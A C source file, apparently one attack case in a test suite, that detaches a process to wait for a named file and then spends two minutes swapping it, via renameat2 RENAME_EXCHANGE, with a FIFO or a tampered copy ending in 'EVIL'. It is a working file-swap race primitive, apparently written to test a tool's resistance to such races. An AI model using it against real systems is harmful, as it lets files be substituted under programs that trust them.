/*
 * swap fifo|file PATH OTHER: leaves a process behind that waits for a file to be there, and then exchanges it for two
 * minutes, as fast as it can, with a FIFO, or with a copy of it that ends in EVIL.
 */
#include "attack.h"

static void copy(const char *from, const char *to) {
    static char bytes[1 << 16];
    int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    for (ssize_t length = read(in, bytes, sizeof bytes); length > 0; length = read(in, bytes, sizeof bytes)) {
        if (write(out, bytes, length) != length) _exit(1);
    }
    if (write(out, "EVIL", 4) != 4) _exit(1);
    close(in);
    close(out);
}

int main(int count, char **words) {
    begin();
    if (count != 4) return 2;
    forget_environment(words);
    say("tried: to exchange %s", words[2]);
    if (detach()) {
        time_t last = time(NULL) + 120;
        while (access(words[2], R_OK) != 0 && time(NULL) < last) usleep(200);
        if (strcmp(words[1], "fifo") == 0) mkfifo(words[3], 0644);
        else copy(words[2], words[3]);
        while (time(NULL) < last) syscall(SYS_renameat2, AT_FDCWD, words[2], AT_FDCWD, words[3], 2 /* RENAME_EXCHANGE */);
        _exit(0);
    }
    return end();
}
